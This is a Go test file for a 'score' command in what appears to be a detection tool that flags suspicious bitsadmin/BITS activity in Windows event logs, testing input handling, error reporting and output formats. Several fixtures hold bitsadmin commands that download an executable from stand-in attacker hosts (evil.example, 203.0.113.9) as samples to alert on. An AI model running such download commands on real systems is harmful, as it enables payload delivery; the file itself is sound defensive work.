package cli

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// zeros is /dev/zero without the device: endless NUL bytes.
type zeros struct{ read int64 }

func (z *zeros) Read(p []byte) (int, error) {
	clear(p)
	z.read += int64(len(p))
	return len(p), nil
}

func runScore(stdin io.Reader, args ...string) (stdout, stderr string, status int) {
	var out, errb bytes.Buffer
	status = Main(append([]string{"score"}, args...), Env{Stdin: stdin, Stdout: &out, Stderr: &errb})
	return out.String(), errb.String(), status
}

// Binary input is refused after a look at its start, with how to convert
// an event log; endless NUL bytes stop at once.
func TestScoreRefusesBinaryInput(t *testing.T) {
	z := &zeros{}
	for name, tc := range map[string]struct {
		input io.Reader
		want  string
	}{
		"evtx":          {strings.NewReader("ElfFile\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x80\x00\x00\x00\x01\x00\x03\x00"), "a binary Windows event log (.evtx)"},
		"/dev/zero":     {z, "binary input (a NUL byte at offset 0)"},
		"random binary": {strings.NewReader("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), "binary input (a NUL byte at offset 8)"},
		"gzip of evtx":  {bytes.NewReader(gzipped(t, []byte("ElfFile\x00rest"))), "a binary Windows event log (.evtx)"},
	} {
		t.Run(name, func(t *testing.T) {
			stdout, stderr, status := runScore(tc.input, "--mode", "hardened")
			if status != ExitUsage || stdout != "" {
				t.Errorf("status %d, stdout %q; want 2 and nothing", status, stdout)
			}
			for _, want := range []string{tc.want, "evtx_dump.py FILE.evtx > FILE.xml", "wevtutil qe FILE.evtx /lf:true /f:xml", "Get-WinEvent -Path FILE.evtx"} {
				if !strings.Contains(stderr, want) {
					t.Errorf("stderr lacks %q:\n%s", want, stderr)
				}
			}
		})
	}
	if z.read > 1<<20 {
		t.Errorf("read %d bytes of NULs before refusing", z.read)
	}
}

// Input with events but none of the fields the detection reads is an
// error, not a quiet "no alert".
func TestScoreNoFieldTheDetectionReads(t *testing.T) {
	_, stderr, status := runScore(strings.NewReader("_time,host,message\n1,h,hello\n2,h,world\n"))
	if status != ExitUsage || !strings.Contains(stderr, "-: no event has any field the detection reads (CommandLine, ProcessCommandLine, Image)") ||
		!strings.Contains(stderr, "-: 2 events scored, 0 alerts, 0 could not be read") {
		t.Errorf("status %d, stderr %q", status, stderr)
	}
	_, stderr, status = runScore(strings.NewReader("_time,host,message\n1,h,hello\n"), "--quiet")
	if status != ExitUsage || strings.Contains(stderr, "events scored") || !strings.Contains(stderr, "no event has any field") {
		t.Errorf("--quiet: status %d, stderr %q", status, stderr)
	}
}

// An unreadable file makes the status 2 even when another file alerts;
// options after the files are options; every file gets its summary line.
func TestScoreUnreadableInputWinsOverAlerts(t *testing.T) {
	attack := filepath.Join(realEvents, xmlFixtures[1])
	stdout, stderr, status := runScore(nil, attack, "/no/such/file", "--mode", "hardened", "--format", "json")
	if status != ExitUsage {
		t.Errorf("status %d, want 2", status)
	}
	if !strings.Contains(stdout, `"alert":true`) || !strings.Contains(stdout, `"RiskScore":`) {
		t.Errorf("the readable file was not scored in hardened mode as JSON: %q", stdout)
	}
	for _, want := range []string{"/no/such/file: no such file", attack + ": 2 events scored, 1 alert, 0 could not be read"} {
		if !strings.Contains(stderr, want) {
			t.Errorf("stderr lacks %q:\n%s", want, stderr)
		}
	}
	// "--" ends the options: a file may be named like one.
	if _, stderr, status := runScore(nil, "--", "--mode"); status != ExitUsage || !strings.Contains(stderr, "open --mode") {
		t.Errorf("-- --mode: status %d, stderr %q", status, stderr)
	}
}

// Past the first 20 bad events of a file the errors are counted, not
// printed; the good events are still scored.
func TestScoreErrorsPastTwentyAreCounted(t *testing.T) {
	good := fixtureFileLines(t, xmlFixtures[1])
	var input bytes.Buffer
	for i := range 50 {
		fmt.Fprintf(&input, "<Event><System>%d</Event>\n", i)
	}
	input.Write(bytes.Join(good, []byte("\n")))
	_, stderr, status := runScore(&input, "--mode", "hardened", "--format", "csv")
	if status != ExitAlert {
		t.Errorf("status %d, want 1 (alerts; bad events do not hide them)", status)
	}
	if n := strings.Count(stderr, "closed by </Event>"); n != maxErrorsShown {
		t.Errorf("%d errors printed, want %d", n, maxErrorsShown)
	}
	for _, want := range []string{"-: 30 more events could not be read (not shown)", "-: 2 events scored, 1 alert, 50 could not be read"} {
		if !strings.Contains(stderr, want) {
			t.Errorf("stderr lacks %q:\n%s", want, stderr)
		}
	}
}

// A CSV record over the cap is reported and the records after it are
// scored.
func TestScoreOversizedCSVRecord(t *testing.T) {
	defer func(saved int) { maxEvent = saved }(maxEvent)
	maxEvent = 1 << 20
	var input bytes.Buffer
	input.WriteString("_time,host,CommandLine,Image\n1,h,\"")
	input.Write(bytes.Repeat([]byte("A"), maxEvent+64<<10)) // the cap counts from what the CSV reader had not yet buffered
	input.WriteString("\",x.exe\n2,h,bitsadmin /transfer j https://evil.example/a.exe C:\\Users\\Public\\a.exe,C:\\Windows\\System32\\bitsadmin.exe\n")
	stdout, stderr, status := runScore(&input, "--format", "csv")
	if status != ExitAlert || !strings.Contains(stderr, "-:2: event larger than 64 MiB") || !strings.Contains(stdout, "bitsadmin.exe") {
		t.Errorf("status %d, stderr %q, stdout %q", status, stderr, stdout)
	}
}

// An oversized CSV record is named by the line where it starts, past a
// record of two lines and a blank line before it.
func TestScoreOversizedCSVRecordNamesItsFirstLine(t *testing.T) {
	defer func(saved int) { maxEvent = saved }(maxEvent)
	maxEvent = 1 << 20
	var input bytes.Buffer
	input.WriteString("_time,host,CommandLine,Image\n1,h,\"two\nlines\",x.exe\n\n2,h,\"") // the big record starts on line 5
	input.Write(bytes.Repeat([]byte("A"), maxEvent+64<<10))
	input.WriteString("\",x.exe\n3,h,bitsadmin /transfer j https://evil.example/a.exe C:\\Users\\Public\\a.exe,C:\\Windows\\System32\\bitsadmin.exe\n")
	stdout, stderr, status := runScore(&input, "--format", "csv")
	if status != ExitAlert || !strings.Contains(stderr, "-:5: event larger than 64 MiB") || !strings.Contains(stdout, "-,6,3,h,") {
		t.Errorf("status %d, stderr %q, stdout %q", status, stderr, stdout)
	}
}

// Files are closed as they are read: more files than descriptors allowed.
func TestScoreClosesEachFile(t *testing.T) {
	path := filepath.Join(t.TempDir(), "one.csv")
	os.WriteFile(path, []byte("_time,host,CommandLine\n1,h,notepad.exe\n"), 0o644)
	args := []string{"--quiet"}
	for range 1200 {
		args = append(args, path)
	}
	if _, stderr, status := runScore(nil, args...); status != ExitOK || stderr != "" {
		t.Errorf("status %d, stderr %q", status, stderr)
	}
}

// The table fits the width it is given and shows the user, parent and
// BITS client; --summary counts per host and indicator instead.
func TestScoreTableAndSummary(t *testing.T) {
	var files []string
	for _, name := range xmlFixtures {
		files = append(files, filepath.Join(realEvents, name))
	}
	for _, columns := range []int{100, 160} {
		var out, errb bytes.Buffer
		env := Env{Stdout: &out, Stderr: &errb, Columns: columns}
		if status := Main(append([]string{"score", "--mode", "hardened", "--format", "table", "--quiet"}, files...), env); status != ExitAlert {
			t.Fatalf("status %d: %s", status, errb.String())
		}
		lines := strings.Split(strings.TrimRight(out.String(), "\n"), "\n")
		if len(lines) != 25 || !strings.HasPrefix(lines[0], "ALERT  RISK  SOURCE") {
			t.Fatalf("%d lines, header %q", len(lines), lines[0])
		}
		for _, l := range lines {
			if n := len([]rune(l)); n > columns {
				t.Errorf("COLUMNS=%d: a line of %d runes: %q", columns, n, l)
			}
		}
		if columns == 160 {
			for _, want := range []string{`OFFSEC\`, "client=bitsadmin.exe", "USER", "PARENT"} {
				if !strings.Contains(out.String(), want) {
					t.Errorf("table lacks %q:\n%s", want, out.String())
				}
			}
		}
	}
	var out bytes.Buffer
	Main(append([]string{"score", "--mode", "hardened", "--summary", "--quiet"}, files...), Env{Stdout: &out, Stderr: io.Discard})
	for _, want := range []string{"HOST               EVENTS  ALERTS  TOP SCORE", "FS03.offsec.lan    17      3       100", "bits_cmdlet "} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("summary lacks %q:\n%s", want, out.String())
		}
	}
}

// An event nested 2.5 million elements deep is one error; the attack after
// it still alerts. UTF-16 without a byte-order mark is recognised by its
// NUL bytes; a JSON value over the cap is reported.
func TestScoreHostileShapes(t *testing.T) {
	attack := fixtureFileLines(t, xmlFixtures[1])
	var deep bytes.Buffer
	deep.WriteString("<Event><EventData>")
	for range 2_500_000 {
		deep.WriteString("<a>")
	}
	deep.WriteString("\n")
	deep.Write(bytes.Join(attack, []byte("\n")))
	_, stderr, status := runScore(&deep, "--mode", "hardened", "--format", "csv")
	if status != ExitAlert || !strings.Contains(stderr, "-:1: elements nested more than 256 deep") ||
		!strings.Contains(stderr, "-: 2 events scored, 1 alert, 1 could not be read") {
		t.Errorf("deep: status %d, stderr %q", status, stderr)
	}

	noBOM := utf16LE(bytes.Join(attack, []byte("\r\n")), false)[2:]
	if _, stderr, status := runScore(bytes.NewReader(noBOM), "--mode", "hardened"); status != ExitAlert {
		t.Errorf("UTF-16LE without BOM: status %d, stderr %q", status, stderr)
	}

	defer func(saved int) { maxEvent = saved }(maxEvent)
	maxEvent = 1 << 20
	big := `{"CommandLine":"` + strings.Repeat("A", 2<<20) + `"}` + "\n"
	_, stderr, status = runScore(strings.NewReader(big))
	if status != ExitUsage || !strings.Contains(stderr, "-:1: event larger than 64 MiB") {
		t.Errorf("JSON over the cap: status %d, stderr %q", status, stderr)
	}
}

// JSON output: the flags, scores, EventCode and line are numbers;
// Indicators is an array even with one value or none.
func TestScoreJSONTypes(t *testing.T) {
	stdout, _, _ := runScore(nil, "--mode", "hardened", "--format", "json", filepath.Join(realEvents, xmlFixtures[0]))
	lines := strings.Split(strings.TrimSpace(stdout), "\n")
	if len(lines) != 5 {
		t.Fatalf("%d events, want 5", len(lines))
	}
	for _, line := range lines {
		var obj map[string]any
		if err := json.Unmarshal([]byte(line), &obj); err != nil {
			t.Fatal(err)
		}
		for _, number := range []string{"line", "EventCode", "IsBitsAdmin", "SuspicionScore", "RiskScore"} {
			if _, ok := obj[number].(float64); !ok {
				t.Errorf("%s = %#v, want a number", number, obj[number])
			}
		}
		if _, ok := obj["Indicators"].([]any); !ok {
			t.Errorf("Indicators = %#v, want an array", obj["Indicators"])
		}
		if _, ok := obj["_time"].(string); !ok {
			t.Errorf("_time = %#v, want its text", obj["_time"])
		}
	}
}

// A broken JSON line is reported and the lines after it are scored.
func TestScoreJSONLinesGoOnAfterABadLine(t *testing.T) {
	lines := fixtureFileLines(t, jsonFixture)
	input := string(bytes.Join(lines[:100], []byte("\n"))) + "\n{\"broken\": tru\n" + string(bytes.Join(lines[100:], []byte("\n")))
	_, stderr, status := runScore(strings.NewReader(input))
	if status != ExitAlert || !strings.Contains(stderr, "-:101: JSON at byte") ||
		!strings.Contains(stderr, "-: 424 events scored, 1 alert, 1 could not be read") {
		t.Errorf("status %d, stderr %q", status, stderr)
	}
}

// The summary line counts in English: one event, one alert, no alerts.
func TestScoreSummaryPlurals(t *testing.T) {
	_, stderr, _ := runScore(strings.NewReader(`{"EventCode":"1","Image":"C:\\Windows\\notepad.exe","CommandLine":"notepad"}` + "\n"))
	if want := "-: 1 event scored, 0 alerts, 0 could not be read"; !strings.Contains(stderr, want) {
		t.Errorf("stderr %q, want %q", stderr, want)
	}
	_, stderr, _ = runScore(strings.NewReader(`{"EventCode":"1","Image":"C:\\Windows\\System32\\bitsadmin.exe","CommandLine":"bitsadmin /transfer j http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe"}` + "\n"))
	if want := "-: 1 event scored, 1 alert, 0 could not be read"; !strings.Contains(stderr, want) {
		t.Errorf("stderr %q, want %q", stderr, want)
	}
}
